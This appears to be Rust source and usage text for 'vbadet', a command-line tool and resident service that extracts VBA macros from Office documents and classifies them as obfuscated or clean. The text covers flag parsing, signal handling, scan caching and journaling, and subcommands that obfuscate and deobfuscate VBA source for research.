                [--isolate] [--max-scan-mem-mb N] [--cache DIR]
                [--journal FILE] [--resume FILE] <file>...
    vbadet serve (--socket PATH | --tcp ADDR) [--jobs N] [--queue N]
                [--breaker-threshold N] [--breaker-backoff-ms N]
                [--in-process] [--heartbeat-ms N] [--cache-entries N]
                [--journal FILE] [--metrics-json FILE] [scan policy options]
    vbadet extract <file>
    vbadet obfuscate [--techniques o1,o2,o3,o4] [--seed N] <file.vba>
    vbadet deobfuscate <file.vba>
    vbadet corpus --out DIR [--scale F] [--seed N]
    vbadet train --out MODEL [--scale F] [--classifier NAME]
    vbadet evaluate [--scale F] [--folds K]

COMMANDS:
    scan        Extract macros from .doc/.xls/.docm/.xlsm/vbaProject.bin and
                classify each module (trains a fresh detector, or pass
                --model FILE saved by `vbadet train`). Batch-safe: every
                input is processed under resource limits, damaged projects
                are salvaged when possible, and failures are per-file
                records, never aborts
    serve       Resident scan service on a Unix or TCP socket. Requests are
                newline-delimited: `scan <path>`, `metrics`, `health`,
                `ready`, `reload <path>`, `model`, or JSON
                (`{\"op\":\"scan\",\"path\":\"…\",\"id\":…}`; inline
                documents via `bytes_hex`). Every request gets exactly one
                reply; a full queue sheds with a typed `overloaded` error;
                repeated worker deaths open a circuit breaker that recovers
                by probing. `reload` (or SIGHUP) hot-swaps the detector
                with zero downtime: in-flight requests finish under the
                model generation that admitted them. Exits 3 after a
                SIGTERM/Ctrl-C graceful drain
    train       Train a detector and save it for reuse with `scan --model`
    extract     Print every macro module's source code
    obfuscate   Apply O1-O4 obfuscation to a VBA source file
    deobfuscate Fold hidden strings, strip dead code and dummy procedures
    corpus      Generate a labeled synthetic corpus of real container files
    evaluate    Run the paper's Table V cross-validation

SCAN EXIT CODES:
    0   every input scanned, nothing flagged
    1   every input scanned, at least one module flagged OBFUSCATED
    2   error, or batch completed with per-file failures
    3   interrupted (Ctrl-C drain); journal is resumable with --resume

OPTIONS:
    --scale F        corpus scale, 0 < F <= 1 (default: 0.1 scan, 1.0 evaluate)
    --classifier N   svm | rf | mlp | lda | bnb (default mlp)
    --techniques T   comma list of o1,o2,o3,o4 (default all)
    --folds K        cross-validation folds (default 10)
    --limits P       scan resource-limit profile: default | strict
    --deadline-ms N  wall-clock budget per document; a document that blows
                     it is reported FAILED [timeout], the batch keeps going
    --fuel N         deterministic work budget per document (~1 unit/KiB)
    --ladder         retry failed documents down the degradation ladder
                     (full parse -> strict limits -> salvage-only sweep)
    --jobs N         scanning workers (default: one per core); --jobs 1
                     selects the sequential engine; 0 is rejected. Reports
                     and journals are identical at any N
    --isolate        scan in child worker processes: aborts, stack
                     overflows and OOM kills cost one worker, not the
                     batch. A document that kills two workers in a row is
                     quarantined (FAILED [fatal]) and the batch continues
    --max-scan-mem-mb N
                     per-document heap ceiling; a document allocating past
                     it is FAILED [limit-exceeded] instead of OOM-killed
    --cache DIR      content-addressed result cache: documents whose bytes,
                     detector and policy were already scanned are answered
                     from DIR without re-scanning (crash-safe JSONL store;
                     --cache-entries caps the in-memory tier, default 65536)

    --journal FILE   checkpoint each document's outcome to FILE (JSONL,
                     crash-safe) as the scan runs
    --resume FILE    replay a journal from a killed run: completed documents
                     are not rescanned, mid-scan ones are re-attempted
    --seed N         RNG seed

SERVE OPTIONS:
    --socket PATH    listen on a Unix-domain socket (stale files replaced)
    --tcp ADDR       listen on TCP, e.g. 127.0.0.1:7087 (port 0 = ephemeral;
                     the bound address is printed to stderr)
    --jobs N         scan worker threads (default 2)
    --queue N        admission queue depth; a request past it is shed with
                     `overloaded` (default 64)
    --breaker-threshold N
                     consecutive worker deaths that open the circuit
                     breaker (default 3)
    --breaker-backoff-ms N
                     breaker cooldown base, doubled per re-open (default 500)
    --in-process     scan in the daemon process instead of isolated child
                     workers (faster; a crashing document kills the service)
    --heartbeat-ms N isolated-worker liveness deadline
    --cache-entries N
                     in-memory result-cache capacity; repeated identical
                     documents are answered without re-scanning and
                     concurrent duplicates share one scan (default 4096,
                     0 disables)
    Scan policy options (--limits, --deadline-ms, --fuel, --ladder,
    --max-scan-mem-mb, --model/--scale/--classifier/--seed) apply per
    request; --metrics-json writes the final service metrics at drain.

SIGNALS:
    One SIGINT (Ctrl-C) or SIGTERM during `scan`/`serve` drains gracefully:
    no new work is accepted, in-flight documents finish, the journal is
    flushed, a summary prints, exit code 3.
    A second signal force-exits immediately (code 128+signum: 130 for
    SIGINT, 143 for SIGTERM).
    SIGHUP during `serve` hot-reloads the detector from the --model path
    (a no-op recorded in reload.failed when serve trained its own model);
    scans in flight finish under the generation that admitted them."
}
