//! `vbadet` — command-line obfuscated-VBA-macro scanner.
//!
//! ```text
//! vbadet scan <file>...           scan documents, print per-module verdicts
//! vbadet extract <file>           dump extracted macro source to stdout
//! vbadet obfuscate <file.vba>     obfuscate VBA source (O1-O4) to stdout
//! vbadet corpus --out DIR         write a synthetic document corpus to disk
//! vbadet evaluate                 run the Table V cross-validation
//! ```

mod commands;

use std::process::ExitCode;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (command, rest) = match args.split_first() {
        Some((c, rest)) => (c.as_str(), rest),
        None => {
            eprintln!("{}", usage());
            return ExitCode::FAILURE;
        }
    };
    let result = match command {
        "scan" => commands::scan(rest),
        "extract" => commands::extract(rest),
        "obfuscate" => commands::obfuscate(rest),
        "deobfuscate" => commands::deobfuscate(rest),
        "corpus" => commands::corpus(rest),
        "evaluate" => commands::evaluate(rest),
        "train" => commands::train(rest),
        "help" | "--help" | "-h" => {
            println!("{}", usage());
            Ok(())
        }
        other => Err(format!("unknown command: {other}\n{}", usage()).into()),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}

fn usage() -> &'static str {
    "vbadet — obfuscated VBA macro detection (DSN 2018 reproduction)

USAGE:
    vbadet scan [--scale F] [--classifier NAME] [--limits default|strict]
                [--deadline-ms N] [--fuel N] [--ladder] [--jobs N]
                [--journal FILE] [--resume FILE] <file>...
    vbadet extract <file>
    vbadet obfuscate [--techniques o1,o2,o3,o4] [--seed N] <file.vba>
    vbadet deobfuscate <file.vba>
    vbadet corpus --out DIR [--scale F] [--seed N]
    vbadet train --out MODEL [--scale F] [--classifier NAME]
    vbadet evaluate [--scale F] [--folds K]

COMMANDS:
    scan        Extract macros from .doc/.xls/.docm/.xlsm/vbaProject.bin and
                classify each module (trains a fresh detector, or pass
                --model FILE saved by `vbadet train`). Batch-safe: every
                input is processed under resource limits, damaged projects
                are salvaged when possible, and the exit status is nonzero
                only after all inputs ran (any per-file failure => failure)
    train       Train a detector and save it for reuse with `scan --model`
    extract     Print every macro module's source code
    obfuscate   Apply O1-O4 obfuscation to a VBA source file
    deobfuscate Fold hidden strings, strip dead code and dummy procedures
    corpus      Generate a labeled synthetic corpus of real container files
    evaluate    Run the paper's Table V cross-validation

OPTIONS:
    --scale F        corpus scale, 0 < F <= 1 (default: 0.1 scan, 1.0 evaluate)
    --classifier N   svm | rf | mlp | lda | bnb (default mlp)
    --techniques T   comma list of o1,o2,o3,o4 (default all)
    --folds K        cross-validation folds (default 10)
    --limits P       scan resource-limit profile: default | strict
    --deadline-ms N  wall-clock budget per document; a document that blows
                     it is reported FAILED [timeout], the batch keeps going
    --fuel N         deterministic work budget per document (~1 unit/KiB)
    --ladder         retry failed documents down the degradation ladder
                     (full parse -> strict limits -> salvage-only sweep)
    --jobs N         scanning worker threads (default: one per core);
                     --jobs 1 selects the sequential engine. Reports,
                     journals and exit status are identical at any N

    --journal FILE   checkpoint each document's outcome to FILE (JSONL,
                     crash-safe) as the scan runs
    --resume FILE    replay a journal from a killed run: completed documents
                     are not rescanned, mid-scan ones are re-attempted
    --seed N         RNG seed"
}
