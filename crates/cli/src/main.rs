//! `vbadet` — command-line obfuscated-VBA-macro scanner.
//!
//! ```text
//! vbadet scan <file>...           scan documents, print per-module verdicts
//! vbadet extract <file>           dump extracted macro source to stdout
//! vbadet obfuscate <file.vba>     obfuscate VBA source (O1-O4) to stdout
//! vbadet corpus --out DIR         write a synthetic document corpus to disk
//! vbadet evaluate                 run the Table V cross-validation
//! ```

mod commands;

use std::process::ExitCode;

/// Live-heap tracking for `--max-scan-mem-mb`: installed process-wide so
/// both the in-process engines and `--isolate` worker re-executions of
/// this binary can trip the memory ceiling as a typed outcome.
#[global_allocator]
static ALLOC: vbadet::TrackingAllocator = vbadet::TrackingAllocator;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (command, rest) = match args.split_first() {
        Some((c, rest)) => (c.as_str(), rest),
        None => {
            eprintln!("{}", usage());
            return ExitCode::from(2);
        }
    };
    if command == vbadet::scan::isolate::WORKER_SUBCOMMAND {
        // Hidden subcommand: this process is an isolation worker, driven
        // over stdin/stdout by a supervisor `vbadet scan --isolate`.
        // Ignore SIGINT so a terminal Ctrl-C (delivered to the whole
        // foreground process group) lets the supervisor drain gracefully
        // instead of reaping a batch of killed workers.
        ignore_sigint();
        return ExitCode::from(vbadet::worker_main() as u8);
    }
    let result: Result<ExitCode, Box<dyn std::error::Error>> = match command {
        "scan" => commands::scan(rest),
        "extract" => commands::extract(rest).map(|()| ExitCode::SUCCESS),
        "obfuscate" => commands::obfuscate(rest).map(|()| ExitCode::SUCCESS),
        "deobfuscate" => commands::deobfuscate(rest).map(|()| ExitCode::SUCCESS),
        "corpus" => commands::corpus(rest).map(|()| ExitCode::SUCCESS),
        "evaluate" => commands::evaluate(rest).map(|()| ExitCode::SUCCESS),
        "train" => commands::train(rest).map(|()| ExitCode::SUCCESS),
        "help" | "--help" | "-h" => {
            println!("{}", usage());
            Ok(ExitCode::SUCCESS)
        }
        other => Err(format!("unknown command: {other}\n{}", usage()).into()),
    };
    match result {
        Ok(code) => code,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::from(2)
        }
    }
}

#[cfg(unix)]
fn ignore_sigint() {
    extern "C" {
        fn signal(signum: i32, handler: usize) -> usize;
    }
    const SIGINT: i32 = 2;
    const SIG_IGN: usize = 1;
    unsafe {
        signal(SIGINT, SIG_IGN);
    }
}

#[cfg(not(unix))]
fn ignore_sigint() {}

fn usage() -> &'static str {
    "vbadet — obfuscated VBA macro detection (DSN 2018 reproduction)

USAGE:
    vbadet scan [--scale F] [--classifier NAME] [--limits default|strict]
                [--deadline-ms N] [--fuel N] [--ladder] [--jobs N]
                [--isolate] [--max-scan-mem-mb N]
                [--journal FILE] [--resume FILE] <file>...
    vbadet extract <file>
    vbadet obfuscate [--techniques o1,o2,o3,o4] [--seed N] <file.vba>
    vbadet deobfuscate <file.vba>
    vbadet corpus --out DIR [--scale F] [--seed N]
    vbadet train --out MODEL [--scale F] [--classifier NAME]
    vbadet evaluate [--scale F] [--folds K]

COMMANDS:
    scan        Extract macros from .doc/.xls/.docm/.xlsm/vbaProject.bin and
                classify each module (trains a fresh detector, or pass
                --model FILE saved by `vbadet train`). Batch-safe: every
                input is processed under resource limits, damaged projects
                are salvaged when possible, and failures are per-file
                records, never aborts
    train       Train a detector and save it for reuse with `scan --model`
    extract     Print every macro module's source code
    obfuscate   Apply O1-O4 obfuscation to a VBA source file
    deobfuscate Fold hidden strings, strip dead code and dummy procedures
    corpus      Generate a labeled synthetic corpus of real container files
    evaluate    Run the paper's Table V cross-validation

SCAN EXIT CODES:
    0   every input scanned, nothing flagged
    1   every input scanned, at least one module flagged OBFUSCATED
    2   error, or batch completed with per-file failures
    3   interrupted (Ctrl-C drain); journal is resumable with --resume

OPTIONS:
    --scale F        corpus scale, 0 < F <= 1 (default: 0.1 scan, 1.0 evaluate)
    --classifier N   svm | rf | mlp | lda | bnb (default mlp)
    --techniques T   comma list of o1,o2,o3,o4 (default all)
    --folds K        cross-validation folds (default 10)
    --limits P       scan resource-limit profile: default | strict
    --deadline-ms N  wall-clock budget per document; a document that blows
                     it is reported FAILED [timeout], the batch keeps going
    --fuel N         deterministic work budget per document (~1 unit/KiB)
    --ladder         retry failed documents down the degradation ladder
                     (full parse -> strict limits -> salvage-only sweep)
    --jobs N         scanning workers (default: one per core); --jobs 1
                     selects the sequential engine; 0 is rejected. Reports
                     and journals are identical at any N
    --isolate        scan in child worker processes: aborts, stack
                     overflows and OOM kills cost one worker, not the
                     batch. A document that kills two workers in a row is
                     quarantined (FAILED [fatal]) and the batch continues
    --max-scan-mem-mb N
                     per-document heap ceiling; a document allocating past
                     it is FAILED [limit-exceeded] instead of OOM-killed

    --journal FILE   checkpoint each document's outcome to FILE (JSONL,
                     crash-safe) as the scan runs
    --resume FILE    replay a journal from a killed run: completed documents
                     are not rescanned, mid-scan ones are re-attempted
    --seed N         RNG seed

SIGNALS:
    Ctrl-C once during scan drains gracefully: in-flight documents finish,
    the journal is flushed, a partial summary prints, exit code 3.
    Ctrl-C twice force-exits immediately (code 130)."
}
