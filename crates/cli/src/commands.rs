//! CLI subcommand implementations.

use std::error::Error;
use std::path::PathBuf;
use std::process::ExitCode;
use vbadet::{
    extract_macros, replay_journal, scan_paths_journaled, ClassifierKind, Detector, DetectorConfig,
    IsolateConfig, MetricsSink, ScanCache, ScanJournal, ScanLimits, ScanOutcome, ScanPolicy,
};
use vbadet_corpus::{generate_macros, CorpusSpec, DocumentFactory};

type CmdResult = Result<(), Box<dyn Error>>;

/// Flags that are bare switches (no value follows them).
const SWITCHES: &[&str] = &["ladder", "stats", "isolate", "in-process"];

/// Minimal flag parser: `--key value` pairs, bare `--switch` flags, plus
/// positional arguments.
struct Flags {
    values: std::collections::HashMap<String, String>,
    switches: std::collections::HashSet<String>,
    positional: Vec<String>,
}

impl Flags {
    fn parse(args: &[String]) -> Result<Self, Box<dyn Error>> {
        let mut values = std::collections::HashMap::new();
        let mut switches = std::collections::HashSet::new();
        let mut positional = Vec::new();
        let mut iter = args.iter();
        while let Some(arg) = iter.next() {
            if let Some(key) = arg.strip_prefix("--") {
                if SWITCHES.contains(&key) {
                    switches.insert(key.to_string());
                    continue;
                }
                let value = iter
                    .next()
                    .ok_or_else(|| format!("--{key} requires a value"))?;
                values.insert(key.to_string(), value.clone());
            } else {
                positional.push(arg.clone());
            }
        }
        Ok(Flags {
            values,
            switches,
            positional,
        })
    }

    fn has(&self, key: &str) -> bool {
        self.switches.contains(key)
    }

    fn get_f64(&self, key: &str, default: f64) -> Result<f64, Box<dyn Error>> {
        match self.values.get(key) {
            None => Ok(default),
            Some(v) => Ok(v.parse()?),
        }
    }

    fn get_u64(&self, key: &str, default: u64) -> Result<u64, Box<dyn Error>> {
        match self.values.get(key) {
            None => Ok(default),
            Some(v) => Ok(v.parse()?),
        }
    }

    fn get_usize(&self, key: &str, default: usize) -> Result<usize, Box<dyn Error>> {
        match self.values.get(key) {
            None => Ok(default),
            Some(v) => Ok(v.parse()?),
        }
    }
}

fn classifier_by_name(name: &str) -> Result<ClassifierKind, Box<dyn Error>> {
    Ok(match name.to_ascii_lowercase().as_str() {
        "svm" => ClassifierKind::Svm,
        "rf" => ClassifierKind::RandomForest,
        "mlp" => ClassifierKind::Mlp,
        "lda" => ClassifierKind::Lda,
        "bnb" => ClassifierKind::BernoulliNb,
        other => return Err(format!("unknown classifier: {other}").into()),
    })
}

/// Loads `--model FILE`, or trains a fresh detector on the synthetic
/// corpus (`--scale`, `--seed`, `--classifier`). Shared by `scan` and
/// `serve`, which differ only in their default corpus scale.
fn detector_from_flags(flags: &Flags, default_scale: f64) -> Result<Detector, Box<dyn Error>> {
    Ok(match flags.values.get("model") {
        Some(path) => {
            eprintln!("loading detector from {path}…");
            Detector::load(&std::fs::read_to_string(path)?)?
        }
        None => {
            let scale = flags.get_f64("scale", default_scale)?;
            let seed = flags.get_u64("seed", 0xD5)?;
            let classifier = match flags.values.get("classifier") {
                Some(name) => classifier_by_name(name)?,
                None => ClassifierKind::Mlp,
            };
            eprintln!("training {classifier} detector on synthetic corpus (scale {scale})…");
            let config = DetectorConfig {
                classifier,
                seed,
                ..DetectorConfig::default()
            };
            Detector::train_on_corpus(&config, &spec_at(scale, seed))
        }
    })
}

fn spec_at(scale: f64, seed: u64) -> CorpusSpec {
    let spec = CorpusSpec::paper().with_seed(seed);
    if (scale - 1.0).abs() < f64::EPSILON {
        spec
    } else {
        spec.scaled(scale)
    }
}

/// The first SIGINT (Ctrl-C) or SIGTERM (`kill`, a supervisor's stop)
/// requests a graceful drain; a second signal of either kind force-exits
/// with the conventional 128+signum code. Only atomics and `_exit` — both
/// async-signal-safe — run in the handler.
#[cfg(unix)]
fn install_signal_drain() {
    use std::sync::atomic::{AtomicBool, Ordering};
    static SEEN: AtomicBool = AtomicBool::new(false);
    extern "C" {
        fn signal(signum: i32, handler: usize) -> usize;
    }
    extern "C" fn on_signal(signum: i32) {
        extern "C" {
            fn _exit(code: i32) -> !;
        }
        if SEEN.swap(true, Ordering::Relaxed) {
            unsafe { _exit(128 + signum) }
        }
        vbadet::scan::interrupt::request_drain();
    }
    const SIGINT: i32 = 2;
    const SIGTERM: i32 = 15;
    unsafe {
        signal(SIGINT, on_signal as *const () as usize);
        signal(SIGTERM, on_signal as *const () as usize);
    }
}

#[cfg(not(unix))]
fn install_signal_drain() {}

/// SIGHUP asks `vbadet serve` for a model hot-reload from its `--model`
/// path — the conventional "re-read your config" signal, here meaning
/// "the model file changed under you". The handler is one atomic store;
/// the serve accept loop does the actual load and swap.
#[cfg(unix)]
fn install_sighup_reload() {
    extern "C" {
        fn signal(signum: i32, handler: usize) -> usize;
    }
    extern "C" fn on_hup(_signum: i32) {
        vbadet::request_reload();
    }
    const SIGHUP: i32 = 1;
    unsafe {
        signal(SIGHUP, on_hup as *const () as usize);
    }
}

#[cfg(not(unix))]
fn install_sighup_reload() {}

pub fn scan(args: &[String]) -> Result<ExitCode, Box<dyn Error>> {
    let flags = Flags::parse(args)?;
    if flags.positional.is_empty() {
        return Err("scan: at least one file required".into());
    }
    let limits = match flags.values.get("limits").map(String::as_str) {
        None | Some("default") => ScanLimits::default(),
        Some("strict") => ScanLimits::strict(),
        Some(other) => return Err(format!("unknown limits profile: {other}").into()),
    };
    let mut policy = ScanPolicy::with_limits(limits);
    if let Some(ms) = flags.values.get("deadline-ms") {
        policy = policy.deadline_ms(ms.parse()?);
    }
    if let Some(units) = flags.values.get("fuel") {
        policy = policy.fuel(units.parse()?);
    }
    if flags.has("ladder") {
        policy = policy.with_ladder();
    }
    // Metrics are pay-for-what-you-ask: the sink stays disabled (and
    // near-free) unless the run wants `--stats` output or a JSON dump.
    let metrics_json = flags.values.get("metrics-json").cloned();
    if flags.has("stats") || metrics_json.is_some() {
        policy = policy.with_metrics(MetricsSink::enabled());
    }
    // Default to one worker per available core; `--jobs 1` pins the scan
    // to the sequential in-thread engine (the output is identical either
    // way — parallelism only changes the wall clock).
    let default_jobs = std::thread::available_parallelism().map_or(1, |n| n.get());
    let jobs = flags.get_usize("jobs", default_jobs)?;
    if jobs == 0 {
        return Err(
            "scan: --jobs must be at least 1 (use --jobs 1 for the sequential engine)".into(),
        );
    }
    policy = policy.jobs(jobs);
    if let Some(mb) = flags.values.get("max-scan-mem-mb") {
        let mb: u64 = mb.parse()?;
        if mb == 0 {
            return Err("scan: --max-scan-mem-mb must be at least 1".into());
        }
        policy = policy.max_scan_mem_bytes(mb << 20);
    }
    if flags.has("isolate") {
        policy = policy.isolated(IsolateConfig::current_exe()?);
    }
    // `--cache DIR` fronts the batch with the crash-safe on-disk result
    // cache: previously scanned content (by digest, under this detector
    // and policy) is answered without re-extracting or re-scoring.
    if let Some(dir) = flags.values.get("cache") {
        let capacity = flags.get_usize("cache-entries", 65_536)?;
        if capacity == 0 {
            return Err("scan: --cache-entries must be at least 1 with --cache".into());
        }
        let cache = ScanCache::persistent(dir, capacity)
            .map_err(|e| format!("scan: opening cache {dir}: {e}"))?;
        for warning in cache.load_warnings() {
            eprintln!("cache warning: {warning}");
        }
        eprintln!("cache at {dir}: {} entries loaded", cache.len());
        policy = policy.with_cache(std::sync::Arc::new(cache));
    } else if flags.values.contains_key("cache-entries") {
        return Err("scan: --cache-entries only applies with --cache DIR".into());
    }
    // Ctrl-C drains instead of killing: stop dispatching, flush the
    // journal, report what was decided, exit 3 so the run is resumable.
    policy = policy.drain_on_interrupt();
    vbadet::scan::interrupt::reset();
    install_signal_drain();
    let resume = match flags.values.get("resume") {
        Some(path) => {
            let replay = replay_journal(path)?;
            if let Some(warning) = &replay.warning {
                eprintln!("warning: {warning}");
            }
            eprintln!(
                "resuming from {path}: {} documents already decided, {} mid-scan re-attempted",
                replay.completed_count(),
                replay.in_flight.len()
            );
            Some(replay)
        }
        None => None,
    };
    let mut journal = match flags.values.get("journal") {
        Some(path) => Some(ScanJournal::create(path)?),
        None => None,
    };
    let detector = detector_from_flags(&flags, 0.1)?;

    // The batch never aborts: every input is processed, failures are
    // per-file records, and the exit status is decided only at the end.
    let report = scan_paths_journaled(
        &detector,
        &flags.positional,
        &policy,
        journal.as_mut(),
        resume.as_ref(),
    );
    let mut any_flagged = false;
    for record in &report.records {
        let path = record.path.display();
        match &record.outcome {
            ScanOutcome::Clean => println!("{path}: no VBA macros"),
            ScanOutcome::Macros(verdicts)
            | ScanOutcome::Salvaged(verdicts)
            | ScanOutcome::Recovered { verdicts, .. } => {
                let provenance = match &record.outcome {
                    ScanOutcome::Salvaged(_) => " [salvaged]".to_string(),
                    ScanOutcome::Recovered { rung, .. } => {
                        format!(" [recovered:{}]", rung.label())
                    }
                    _ => String::new(),
                };
                if verdicts.is_empty() {
                    println!("{path}: no VBA macros{provenance}");
                }
                for v in verdicts {
                    let mark = if v.verdict.obfuscated {
                        "OBFUSCATED"
                    } else {
                        "clean"
                    };
                    any_flagged |= v.verdict.obfuscated;
                    println!(
                        "{path}: module {:<20} {:>11} (score {:+.3}){provenance}",
                        v.module_name, mark, v.verdict.score
                    );
                }
            }
            ScanOutcome::Failed { class, detail } => {
                println!("{path}: FAILED [{}] {detail}", class.label());
            }
        }
    }
    eprintln!(
        "scanned {}: {} clean, {} flagged, {} salvaged, {} recovered, {} failed",
        report.scanned(),
        report.clean(),
        report.flagged(),
        report.salvaged(),
        report.recovered(),
        report.failed()
    );
    if any_flagged {
        eprintln!("note: obfuscation != maliciousness; see the paper's §VI.A");
    }
    // Metrics are emitted before the failure exits below: a batch with
    // failed inputs is exactly the run whose stage counters matter most.
    if let Some(metrics) = &report.metrics {
        if flags.has("stats") {
            eprint!("{}", metrics.render_text());
        }
        if let Some(path) = &metrics_json {
            std::fs::write(path, metrics.to_json())?;
            eprintln!("wrote pipeline metrics to {path}");
        }
    }
    if let Some(e) = &report.journal_error {
        return Err(format!("journal write failed mid-scan: {e}").into());
    }
    // Exit-code ladder (see `vbadet help`): interruption wins (the run is
    // resumable and the user should know), then batch failures, then
    // findings, then clean.
    if report.interrupted {
        eprintln!(
            "interrupted: {} of {} documents decided and journaled; resume with --resume",
            report.scanned(),
            flags.positional.len()
        );
        return Ok(ExitCode::from(3));
    }
    if report.failed() > 0 {
        return Err(format!("{} of {} inputs failed", report.failed(), report.scanned()).into());
    }
    Ok(if any_flagged {
        ExitCode::from(1)
    } else {
        ExitCode::SUCCESS
    })
}

/// `vbadet serve`: the resident scan service. Binds the requested socket,
/// runs [`vbadet::serve`] until a SIGTERM/SIGINT drain, then flushes
/// metrics, removes the socket file and exits 3 (the same "stopped on
/// request, work is accounted for" slot as an interrupted batch).
pub fn serve(args: &[String]) -> Result<ExitCode, Box<dyn Error>> {
    let flags = Flags::parse(args)?;
    if let Some(stray) = flags.positional.first() {
        return Err(format!("serve: unexpected positional argument {stray:?}").into());
    }
    let limits = match flags.values.get("limits").map(String::as_str) {
        None | Some("default") => ScanLimits::default(),
        Some("strict") => ScanLimits::strict(),
        Some(other) => return Err(format!("unknown limits profile: {other}").into()),
    };
    let mut policy = ScanPolicy::with_limits(limits);
    if let Some(ms) = flags.values.get("deadline-ms") {
        policy = policy.deadline_ms(ms.parse()?);
    }
    if let Some(units) = flags.values.get("fuel") {
        policy = policy.fuel(units.parse()?);
    }
    if flags.has("ladder") {
        policy = policy.with_ladder();
    }
    if let Some(mb) = flags.values.get("max-scan-mem-mb") {
        let mb: u64 = mb.parse()?;
        if mb == 0 {
            return Err("serve: --max-scan-mem-mb must be at least 1".into());
        }
        policy = policy.max_scan_mem_bytes(mb << 20);
    }
    // Process isolation is the default for a resident service — a hostile
    // document costs one worker process, never the daemon. `--in-process`
    // opts out for trusted inputs where spawn latency matters.
    if !flags.has("in-process") {
        let mut isolate = IsolateConfig::current_exe()?;
        if let Some(ms) = flags.values.get("heartbeat-ms") {
            isolate = isolate.heartbeat(std::time::Duration::from_millis(ms.parse()?));
        }
        policy = policy.isolated(isolate);
    } else if flags.values.contains_key("heartbeat-ms") {
        return Err("serve: --heartbeat-ms only applies to isolated workers".into());
    }
    // The service caches by default: a resident scanner sees the same
    // attachment bytes again and again, and a hit skips the whole scan
    // (in isolate mode, the worker round trip too). `--cache-entries 0`
    // turns it off.
    let cache_entries = flags.get_usize("cache-entries", 4096)?;
    if cache_entries > 0 {
        policy = policy.with_cache(std::sync::Arc::new(ScanCache::in_memory(cache_entries)));
    }
    policy = policy.with_metrics(MetricsSink::enabled());

    let mut config = vbadet::ServeConfig::new(policy);
    config.workers = flags.get_usize("jobs", config.workers)?;
    if config.workers == 0 {
        return Err("serve: --jobs must be at least 1".into());
    }
    config.queue_depth = flags.get_usize("queue", config.queue_depth)?;
    if config.queue_depth == 0 {
        return Err("serve: --queue must be at least 1".into());
    }
    config.breaker_threshold =
        u32::try_from(flags.get_u64("breaker-threshold", u64::from(config.breaker_threshold))?)?;
    config.breaker_backoff = std::time::Duration::from_millis(flags.get_u64(
        "breaker-backoff-ms",
        config.breaker_backoff.as_millis() as u64,
    )?);

    let detector = detector_from_flags(&flags, 0.01)?;
    // SIGHUP reloads from the same file `--model` loaded: retrain, drop
    // the new model over the old path, signal the daemon. Without
    // --model there is nowhere to reload from, and SIGHUP-driven
    // reloads count as failed in the reload.* metrics.
    config.reload_path = flags.values.get("model").map(PathBuf::from);

    let socket = flags.values.get("socket").cloned();
    let listener = match (&socket, flags.values.get("tcp")) {
        (Some(_), Some(_)) => return Err("serve: --socket and --tcp are mutually exclusive".into()),
        (Some(path), None) => {
            #[cfg(unix)]
            {
                vbadet::Listener::bind_unix(path)?
            }
            #[cfg(not(unix))]
            {
                let _ = path;
                return Err("serve: --socket needs a Unix platform; use --tcp ADDR".into());
            }
        }
        (None, Some(addr)) => vbadet::Listener::bind_tcp(addr)?,
        (None, None) => return Err("serve: --socket PATH or --tcp ADDR required".into()),
    };
    // The bound address goes to stderr before the first accept so a
    // supervisor (or the soak harness) can wait for it; with `--tcp :0`
    // this is the only place the ephemeral port is reported.
    match listener.tcp_addr() {
        Some(addr) => eprintln!("listening on tcp {addr}"),
        None => eprintln!(
            "listening on unix {}",
            socket.as_deref().unwrap_or_default()
        ),
    }
    eprintln!(
        "serving with {} workers, queue depth {}, breaker threshold {} ({}); \
         SIGTERM or Ctrl-C drains; SIGHUP or `reload <path>` hot-swaps the model",
        config.workers,
        config.queue_depth,
        config.breaker_threshold,
        if flags.has("in-process") {
            "in-process"
        } else {
            "isolated"
        }
    );

    let mut journal = match flags.values.get("journal") {
        Some(path) => Some(ScanJournal::create(path)?),
        None => None,
    };
    vbadet::scan::interrupt::reset();
    vbadet::reset_reload_requests();
    install_signal_drain();
    install_sighup_reload();
    let summary = vbadet::serve(&listener, &detector, &config, journal.as_mut());

    if let Some(path) = &socket {
        let _ = std::fs::remove_file(path);
    }
    if let (Some(metrics), Some(path)) = (&summary.metrics, flags.values.get("metrics-json")) {
        std::fs::write(path, metrics.to_json())?;
        eprintln!("wrote service metrics to {path}");
    }
    eprintln!(
        "drained: {} accepted, {} shed, {} responses",
        summary.accepted, summary.shed, summary.responses
    );
    if let Some(e) = &summary.journal_error {
        return Err(format!("journal write failed mid-run: {e}").into());
    }
    Ok(ExitCode::from(3))
}

pub fn extract(args: &[String]) -> CmdResult {
    let flags = Flags::parse(args)?;
    let path = flags.positional.first().ok_or("extract: file required")?;
    let bytes = std::fs::read(path)?;
    let macros = extract_macros(&bytes)?;
    if macros.is_empty() {
        eprintln!("{path}: no VBA macros");
        return Ok(());
    }
    for m in macros {
        println!(
            "' ===== project {} / module {} ({:?}) =====",
            m.project_name, m.module_name, m.container
        );
        println!("{}", m.code);
    }
    Ok(())
}

pub fn obfuscate(args: &[String]) -> CmdResult {
    use rand::SeedableRng;
    use vbadet_obfuscate::{Obfuscator, Technique};

    let flags = Flags::parse(args)?;
    let path = flags
        .positional
        .first()
        .ok_or("obfuscate: a .vba source file is required")?;
    let source = std::fs::read_to_string(path)?;
    let seed = flags.get_u64("seed", 0xD5)?;
    let list = flags
        .values
        .get("techniques")
        .map(String::as_str)
        .unwrap_or("o2,o3,o4,o1");

    let mut pipeline = Obfuscator::new();
    for item in list.split(',') {
        pipeline = match item.trim().to_ascii_lowercase().as_str() {
            "o1" => pipeline.with(Technique::Random),
            "o2" => pipeline.with(Technique::Split),
            "o3" => pipeline.with(Technique::Encoding),
            "o4" => pipeline.with(Technique::Logic),
            other => return Err(format!("unknown technique: {other}").into()),
        };
    }
    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
    let result = pipeline.apply(&source, &mut rng);
    print!("{}", result.source);
    eprintln!(
        "applied {:?}: {} -> {} chars",
        result.applied,
        source.len(),
        result.source.len()
    );
    Ok(())
}

pub fn deobfuscate(args: &[String]) -> CmdResult {
    let flags = Flags::parse(args)?;
    let path = flags
        .positional
        .first()
        .ok_or("deobfuscate: a .vba source file is required")?;
    let source = std::fs::read_to_string(path)?;
    let report = vbadet_obfuscate::deobfuscate(&source);
